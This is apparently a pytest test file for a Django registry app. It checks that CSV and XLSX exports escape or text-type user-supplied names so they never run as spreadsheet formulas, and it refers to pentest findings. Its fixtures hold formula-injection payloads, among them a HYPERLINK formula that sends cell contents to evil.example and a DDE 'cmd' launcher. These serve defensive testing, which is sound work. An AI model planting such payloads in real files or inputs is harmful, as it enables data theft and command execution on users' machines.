"""No name a user typed runs as a formula in a file the registry writes: in CSV a cell
that starts like a formula (= + - @, or a tab or carriage return) is escaped with an
apostrophe; in XLSX every text cell is typed as text. Sites export, priority list and
report files and the campaign board alike."""

import csv
import datetime as dt
import io
import zipfile

import pytest
from django.contrib.gis.geos import Point
from django.urls import reverse
from openpyxl import load_workbook

from accounts.models import Role, User
from hazards import campaigns
from mapping.models import Place

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Xem")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "=1+1\tx"]


@pytest.fixture
def manager(client, demo_tree, make_user, make_site):
    for name in FORMULAS:
        site = make_site(demo_tree["99101"], name="Ao", kind="pond")
        type(site).objects.filter(pk=site.pk).update(name=name)  # a tab is refused at input now
    district = demo_tree["992"]  # a row of the province's report
    district.name = "=2*3"
    district.save(update_fields=["name"])
    Place.objects.create(
        kind="school", name="@Trường", location=Point(*demo_tree["99101"].geom.point_on_surface.coords)
    )
    client.force_login(make_user("nam", demo_tree["99"], Role.AREA_MANAGER))
    return client


def body(response) -> bytes:
    assert response.status_code == 200, response.content[:300]
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_cells(data: bytes) -> set[str]:
    return {cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row}


def assert_no_live_formula(cells: set[str], texts):
    for text in texts:
        assert text not in cells, f"{text!r} left live"
        assert "'" + text in cells, f"{text!r} not escaped"
    starts = ("=", "+", "-", "@", "\t", "\r")
    live = [c for c in cells if c.startswith(starts) and not _number(c)]
    assert not live, live


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_sites_csv_escapes_formulas(manager):
    cells = csv_cells(body(manager.get(reverse("site-export", args=["csv"]))))
    assert_no_live_formula(cells, FORMULAS)


def test_priority_csv_escapes_formulas(manager):
    cells = csv_cells(body(manager.get(reverse("map-priority-file"))))
    assert_no_live_formula(cells, [*FORMULAS, "@Trường"])


def test_report_csv_escapes_formulas(manager):
    response = manager.get(reverse("report-file", args=["csv"]), {"kind": "half", "year": 2025, "half": 1})
    cells = csv_cells(body(response))
    assert_no_live_formula(cells, ["=2*3"])


def xlsx_sheet(data: bytes):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert all(b"<f>" not in sheet and b"<f " not in sheet for sheet in sheets), "a formula cell was written"
    return load_workbook(io.BytesIO(data)).worksheets[0]


@pytest.mark.parametrize(
    ("url", "params", "texts"),
    [
        (reverse("site-export", args=["xlsx"]), {}, FORMULAS),
        (reverse("report-file", args=["xlsx"]), {"kind": "half", "year": 2025, "half": 1}, ["=2*3"]),
    ],
)
def test_xlsx_types_every_name_as_text(manager, url, params, texts):
    sheet = xlsx_sheet(body(manager.get(url, params)))
    cells = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
    for text in texts:
        assert cells.get(text) == "s", text


def test_campaign_board_xlsx_types_every_name_as_text(manager, demo_tree):
    """The campaign's name heads the sheet and the area names fill column B (pentest F4)."""
    commune = demo_tree["99101"]
    commune.name = '=HYPERLINK("http://evil.example/","Xã")'
    commune.save(update_fields=["name"])
    campaign = campaigns.campaign_start(
        actor=User.objects.get(username="nam"), name="=1+1", area=demo_tree["99"],
        starts_on=dt.date(2026, 12, 1), ends_on=dt.date(2026, 12, 31),
    )  # fmt: skip
    sheet = xlsx_sheet(body(manager.get(reverse("campaign-file", args=[campaign.pk, "xlsx"]))))
    cells = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
    assert cells.get(commune.name) == "s"
    heading = sheet["A1"].value
    assert heading.startswith("=1+1 · ") and cells[heading] == "s"


# Stored before input refused control characters (F13): one such name made every XLSX
# covering it answer 500. The cell holds OOXML's escape, which Excel reads back as the
# character; the record is unchanged.
# U+FFFE and U+FFFF, which XML cannot hold either, made them answer 500 again (pentest P7).
STORED_CONTROL = "Giếng\x0b\x01\x1b[31m ctrl _x0041_ \uffff\ufffe"
WRITTEN_CONTROL = "Giếng_x000B__x0001__x001B_[31m ctrl _x005F_x0041_ _xFFFF__xFFFE_"


@pytest.fixture
def stored_control(manager, demo_tree, make_site):
    site = make_site(demo_tree["99101"], name="Giếng")
    type(site).objects.filter(pk=site.pk).update(name=STORED_CONTROL)
    type(demo_tree["992"]).objects.filter(pk=demo_tree["992"].pk).update(name=STORED_CONTROL)
    return site


@pytest.mark.parametrize(
    ("url", "params"),
    [
        (reverse("site-export", args=["xlsx"]), {}),
        (reverse("report-file", args=["xlsx"]), {"kind": "half", "year": 2025, "half": 1}),
    ],
)
def test_xlsx_writes_stored_control_characters_as_excel_reads_them(manager, stored_control, url, params):
    sheet = xlsx_sheet(body(manager.get(url, params)))
    cells = {cell.value for row in sheet.iter_rows() for cell in row}
    assert WRITTEN_CONTROL in cells
    stored_control.refresh_from_db()
    assert stored_control.name == STORED_CONTROL
